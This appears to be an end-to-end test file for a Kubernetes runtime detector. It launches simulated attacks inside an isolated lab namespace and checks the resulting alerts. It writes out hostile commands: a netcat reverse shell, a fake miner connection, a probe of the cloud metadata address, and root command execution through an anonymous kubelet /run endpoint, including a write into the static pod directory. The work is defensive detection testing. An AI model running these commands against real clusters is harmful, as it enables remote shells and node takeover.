// kubemoat detect --node against the lab's real kubelet, containerd and runc: the attacks really
// run in the lab's pods (through the anonymous kubelet's /run, which the audit log never sees),
// and each alert must name the pod, container, image and binary within 2 s. On the hardened lab,
// the same workloads doing their normal work raise nothing. Every address used is inside the
// lab's own network namespace (169.254.169.254 is added there by this test and removed after).

import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { curlInNetns, inNetns, labUp, type LabEnv } from '../helpers/lab.js';
import { startDetector, type RunningDetector } from '../helpers/detect.js';
import type { RuntimeAlert } from '../../src/detect/alert.js';

const ARRIVAL_MS = 2_000;
const READY = 'runtime sensor watching node';
const METADATA = '169.254.169.254';

/** A command run as root in a container through the kubelet's anonymous /run (cmd split on spaces). */
function kubeletRun(env: LabEnv, pod: string, container: string, cmd: string, timeoutSec = 10) {
  return curlInNetns(env, `${env.kubelet}/run/lab-apps/${pod}/${container}?cmd=${encodeURIComponent(cmd)}`, { method: 'POST', timeoutSec });
}

/** A listener in the lab's namespace (busybox nc), killed by the test. */
function listen(env: LabEnv, port: number, address?: string): ChildProcess {
  const args = ['netns', 'exec', env.netns, '/bin/busybox', 'nc', '-l', '-p', String(port), ...(address ? ['-s', address] : [])];
  return spawn('ip', args, { stdio: ['pipe', 'ignore', 'ignore'] });
}

async function expectRuntimeAlert(d: RunningDetector<RuntimeAlert>, since: number, what: string, pred: (a: RuntimeAlert) => boolean): Promise<RuntimeAlert> {
  const a = await d.waitFor((x) => x.source === 'runtime' && Date.parse(x.detectedAt) >= since - 1000 && pred(x), 15_000);
  assert.ok(a, `no runtime alert for ${what}; got:\n${d.alerts.map((x) => `${x.ruleId} ${x.message}`).join('\n')}\n${d.stderr()}`);
  const latency = d.arrivals[d.alerts.indexOf(a)] - since;
  process.stdout.write(`# ${what}: ${a.ruleId} arrived ${latency} ms after the attack began\n`);
  assert.ok(latency < ARRIVAL_MS, `${what}: alert took ${latency} ms`);
  assert.ok(a.container, 'names the container');
  assert.equal(a.node, env0.nodeName);
  assert.ok(a.container.pod && a.container.name && a.container.image.startsWith('kubemoat.local/lab/busybox'), `pod, container, image: ${JSON.stringify(a.container)}`);
  assert.ok(a.process.binary || a.process.comm, 'names the binary');
  assert.ok(a.message.includes(a.container.pod) && a.message.includes(a.container.image), a.message);
  return a;
}

let env0: LabEnv;

describe('kubemoat detect --node on the insecure lab', () => {
  let env: LabEnv;
  let d: RunningDetector<RuntimeAlert>;

  before(async () => {
    env = env0 = await labUp('insecure');
    await inNetns(env, 'ip', ['addr', 'del', `${METADATA}/32`, 'dev', 'lab0']);
    const add = await inNetns(env, 'ip', ['addr', 'add', `${METADATA}/32`, 'dev', 'lab0']);
    assert.equal(add.code, 0, add.stderr);
    d = await startDetector<RuntimeAlert>(['--node', '--sensor', 'ebpf'], { netns: env.netns, readyText: READY });
    assert.match(d.stderr(), /eBPF \(bpftrace\), \d+ containers/);
  });

  after(async () => {
    await inNetns(env, 'ip', ['addr', 'del', `${METADATA}/32`, 'dev', 'lab0']);
    const r = await d?.stop();
    if (r) {
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /detect --node: \d+ runtime events \(ebpf\)/, 'a summary after SIGTERM');
    }
  });

  test('an anonymous kubelet /run of `id` (no audit line exists for it)', async () => {
    const t0 = Date.now();
    const r = await kubeletRun(env, 'app', 'app', 'id');
    assert.match(r.body, /uid=0/);
    const a = await expectRuntimeAlert(d, t0, 'kubelet /run id', (x) => x.ruleId === 'KM-RT-001' && x.process.binary === '/bin/id');
    assert.equal(a.container!.pod, 'app');
    assert.equal(a.container!.name, 'app');
    assert.equal(a.container!.namespace, 'lab-apps');
    assert.deepEqual(a.process.argv, ['id']);
    assert.deepEqual(a.mitre, ['T1609']);
  });

  test('a reverse shell from a pod to a listener in the lab', async () => {
    const listener = listen(env, 4444);
    try {
      await new Promise((r) => setTimeout(r, 300));
      const t0 = Date.now();
      const run = kubeletRun(env, 'app', 'app', `nc ${env.nodeIP} 4444 -e /bin/sh`, 8);
      const a = await expectRuntimeAlert(d, t0, 'reverse shell', (x) => x.ruleId === 'KM-RT-003');
      assert.equal(a.container!.pod, 'app');
      assert.match(a.message, /socket/);
      assert.equal(a.severity, 'critical');
      listener.kill();
      await run;
    } finally {
      listener.kill();
    }
  });

  test('a fake miner: stratum arguments, connecting to a fake pool on port 3333', async () => {
    const pool = listen(env, 3333);
    try {
      await new Promise((r) => setTimeout(r, 300));
      const t0 = Date.now();
      // busybox nc connects, then runs its -e program: its command line carries the pool URL, as a miner's does
      await kubeletRun(env, 'app', 'app', `nc -w 2 ${env.nodeIP} 3333 -e stratum+tcp://${env.nodeIP}:3333`);
      const a = await expectRuntimeAlert(d, t0, 'miner', (x) => x.ruleId === 'KM-RT-004');
      assert.match(a.message, /stratum\+tcp/);
      assert.equal(a.container!.pod, 'app');
      const pooled = await d.waitFor((x) => x.source === 'runtime' && x.ruleId === 'KM-RT-004' && x.connection?.port === 3333, 5_000);
      assert.ok(pooled, 'the connection to the pool is reported too');
    } finally {
      pool.kill();
    }
  });

  test('a pod reading the cloud metadata address', async () => {
    const imds = listen(env, 80, METADATA);
    try {
      await new Promise((r) => setTimeout(r, 300));
      const t0 = Date.now();
      // the lab's static busybox wget cannot resolve even a literal address (static glibc NSS); nc can
      await kubeletRun(env, 'app', 'app', `nc -w 2 ${METADATA} 80`);
      const a = await expectRuntimeAlert(d, t0, 'metadata', (x) => x.ruleId === 'KM-RT-005');
      assert.deepEqual(a.connection, { family: 'inet', address: METADATA, port: 80 });
      assert.equal(a.container!.pod, 'app');
    } finally {
      imds.kill();
    }
  });

  test('a privileged pod writing a file into the static pod directory', async () => {
    const kubelet = env.pids.kubelet;
    assert.ok(kubelet > 0, 'the lab names its kubelet pid');
    const target = `/proc/${kubelet}/root${env.staticPodDir}/kubemoat-rt-e2e.yaml`;
    try {
      const t0 = Date.now();
      const r = await kubeletRun(env, 'privileged', 'shell', `touch ${target}`);
      assert.equal(r.status, 200, r.body);
      const a = await expectRuntimeAlert(d, t0, 'static pod write', (x) => x.ruleId === 'KM-RT-011');
      assert.equal(a.container!.pod, 'privileged');
      assert.equal(a.file?.place, 'static-pods');
      assert.equal(a.file?.write, true);
      assert.equal(a.severity, 'critical');
    } finally {
      await kubeletRun(env, 'privileged', 'shell', `rm -f ${target}`);
    }
  });
});

describe('kubemoat detect --node --learn on the insecure lab', () => {
  test('after learning, a program the workload never ran is reported, and the baseline is on disk', async () => {
    const env = await labUp('insecure');
    env0 = env;
    const { mkdtempSync, readdirSync, readFileSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const state = mkdtempSync(join(tmpdir(), 'km-learn-'));
    const d = await startDetector<RuntimeAlert>(['--node', '--sensor', 'ebpf', '--learn', '3s', '--state-dir', state], { netns: env.netns, readyText: READY });
    try {
      // the snapshot at start teaches each workload its running processes (the app pod's `sleep`)
      await new Promise((r) => setTimeout(r, 3_500));
      const t0 = Date.now();
      await kubeletRun(env, 'app', 'app', 'uname -a');
      const a = await d.waitFor((x) => x.source === 'runtime' && x.ruleId === 'KM-RT-016' && x.process.binary === '/bin/uname', 10_000);
      assert.ok(a, `no KM-RT-016; got:\n${d.alerts.map((x) => `${x.ruleId} ${x.message}`).join('\n')}\n${d.stderr()}`);
      assert.ok(Date.parse(a.detectedAt) >= t0 - 1000);
      assert.equal(a.container?.pod, 'app');
    } finally {
      assert.equal((await d.stop()).code, 0);
    }
    const saved = readFileSync(join(state, 'baseline', 'lab-apps', 'app.app.yaml'), 'utf8');
    assert.match(saved, /- sleep/);
    assert.ok(readdirSync(join(state, 'baseline', 'lab-apps')).length >= 3, 'one file per workload container');
  });
});

describe('kubemoat detect --node on the hardened lab', () => {
  test('the workloads doing their normal work raise nothing', async () => {
    const env = await labUp('hardened');
    env0 = env;
    const d = await startDetector<RuntimeAlert>(['--node', '--sensor', 'ebpf'], { netns: env.netns, readyText: READY });
    // the kubelet refuses an anonymous /run here, so nothing runs and nothing is raised for it
    const denied = await kubeletRun(env, 'app', 'app', 'id');
    assert.ok(denied.status === 401 || denied.status === 403, `hardened kubelet answered ${denied.status}`);
    await new Promise((r) => setTimeout(r, 8_000));
    const r = await d.stop();
    assert.equal(r.code, 0, r.stderr);
    const m = /detect --node: (\d+) runtime events/.exec(r.stderr);
    assert.ok(m, r.stderr);
    // other lab test files, running beside this one, `kubectl exec` these commands into hardened's app:
    // those are real execs, rightly reported; nothing else may be
    const OTHER_TESTS_EXECS = new Set(['id', 'true', 'cat', 'hostname']);
    const mine = d.alerts.filter((a) => a.source === 'runtime' && a.node === env.nodeName && !(a.ruleId === 'KM-RT-001' && a.container?.pod === 'app' && OTHER_TESTS_EXECS.has(a.process.argv?.[0] ?? '')));
    assert.deepEqual(mine.map((a) => `${a.ruleId} ${a.message}`), []);
  });
});
